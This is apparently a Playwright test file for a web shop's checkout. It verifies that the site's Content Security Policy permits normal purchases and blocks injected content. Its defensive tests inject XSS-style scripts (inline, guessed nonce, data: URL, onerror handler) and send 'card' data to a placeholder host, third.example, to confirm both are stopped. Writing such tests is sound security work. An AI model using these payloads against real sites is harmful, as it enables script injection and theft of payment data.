// The pages' policy lets through what the shop needs, with scripts and without, and nothing that somebody else put in.

import type { BrowserContext, Page } from '@playwright/test'

import { expectPaidOnce } from '../support/books.ts'
import {
  cards,
  expectState,
  fillCard,
  hydrated,
  main,
  passBank,
  payButton,
  readOrder,
  tokenOf,
} from '../support/checkout.ts'
import { expect, test } from '../support/test.ts'

/** What the browser complains of when a policy has stopped something, on any page of the context. */
function watchViolations(context: BrowserContext): string[] {
  const violations: string[] = []
  context.on('console', (message) => {
    if (/Content[- ]Security[- ]Policy|Permissions[- ]Policy|Cross-Origin-/i.test(message.text())) {
      violations.push(`${message.page()?.url()}: ${message.text()}`)
    }
  })
  return violations
}

/** Buys a mug from the shop's front page on, and gives the order. */
async function toCheckout(page: Page): Promise<string> {
  await page.goto('/')
  await page.locator('form:has([name=sku][value=mug]) button').first().click()
  await expect(page).toHaveURL(/\/cart$/)
  await page.locator('form[action="/checkout"]').getByRole('button').click()
  await expect(page).toHaveURL(/\/checkout\/[^/]+$/)
  return tokenOf(page.url())
}

for (const scripts of [true, false]) {
  test.describe(scripts ? 'scripts on' : 'scripts off', () => {
    test.use({ javaScriptEnabled: scripts })

    for (const card of [cards.good, cards.bankStep]) {
      test(`buying with ${card} meets no policy`, async ({ page, context, sandbox, orders, shop, request }) => {
        const violations = watchViolations(context)
        const order = await readOrder(request, shop.url, await toCheckout(page))
        orders.push(order)
        if (scripts) await hydrated(page)
        await fillCard(page, card)
        await payButton(page).click()
        if (!scripts) {
          await expect(page).toHaveURL(/\/review\?/)
          await payButton(page).click()
        }
        if (card === cards.bankStep) await passBank(page, 'approve')
        await expectPaidOnce(page, sandbox, order)
        for (const address of [order.outcomeUrl, order.url, '/nowhere', '/orders/nobody', '/checkout']) {
          await page.goto(address)
          await expect(main(page)).toBeVisible()
        }
        expect(violations).toEqual([])
      })
    }

    test('a decline and a form that comes back meet no policy', async ({ page, context, newOrder, sandbox }) => {
      const violations = watchViolations(context)
      const order = await newOrder()
      await page.goto(order.url)
      if (scripts) await hydrated(page)
      await fillCard(page, cards.declined)
      await payButton(page).click()
      if (!scripts) await payButton(page).click()
      await expectState(page, 'failed', 'declined')
      await page.goto(order.url)
      await fillCard(page, cards.good)
      await payButton(page).click()
      if (!scripts) await payButton(page).click()
      await expectPaidOnce(page, sandbox, order)
      expect(violations).toEqual([])
    })
  })
}

test.describe('somebody else', () => {
  test('a script that was put into a page does not run', async ({ page, context, newOrder }) => {
    const violations = watchViolations(context)
    const order = await newOrder()
    for (const address of [order.url, order.outcomeUrl, '/', '/cart', '/nowhere']) {
      await page.goto(address)
      const before = violations.length
      const ran = await page.evaluate(async () => {
        const inline = document.createElement('script')
        inline.textContent = 'window.ran = "inline"'
        const guessed = document.createElement('script')
        guessed.textContent = 'window.ran = "with a guessed nonce"'
        guessed.setAttribute('nonce', 'AAAAAAAAAAAAAAAAAAAAAA==')
        const foreign = document.createElement('script')
        foreign.src = 'data:text/javascript,window.ran="foreign"'
        const picture = document.createElement('img')
        picture.setAttribute('onerror', 'window.ran = "handler"')
        picture.src = '/nowhere.png'
        document.body.append(inline, guessed, foreign, picture)
        await new Promise((done) => {
          picture.addEventListener('error', done)
        })
        return (window as unknown as { ran?: string }).ran ?? null
      })
      expect(ran, address).toBeNull()
      expect(violations.length, `${address}: the browser told of it`).toBeGreaterThan(before)
    }
  })

  test('nothing is sent to a third origin', async ({ page, newOrder }) => {
    const order = await newOrder()
    await page.goto(order.url)
    const told = await page.evaluate(async () => {
      const stopped = new Promise<string>((tell) => {
        document.addEventListener('securitypolicyviolation', (event) => {
          tell(event.effectiveDirective)
        })
      })
      await fetch('http://third.example/', { method: 'POST', body: 'card', mode: 'no-cors' }).catch(() => null)
      return stopped
    })
    expect(told).toBe('connect-src')
  })

  test('the page cannot be framed', async ({ page, context, newOrder, sandbox }) => {
    const order = await newOrder()
    const violations = watchViolations(context)
    // Any page of another origin will do.
    await page.goto(`${sandbox.url}/_sandbox/ledger`)
    await page.setContent(`<iframe src="${order.url}"></iframe>`)
    await expect.poll(() => violations.filter((text) => text.includes('frame-ancestors')).length).toBeGreaterThan(0)
    const framed = page.frames().find((frame) => frame !== page.mainFrame())
    expect(await framed?.locator('main').count()).toBe(0)
  })
})
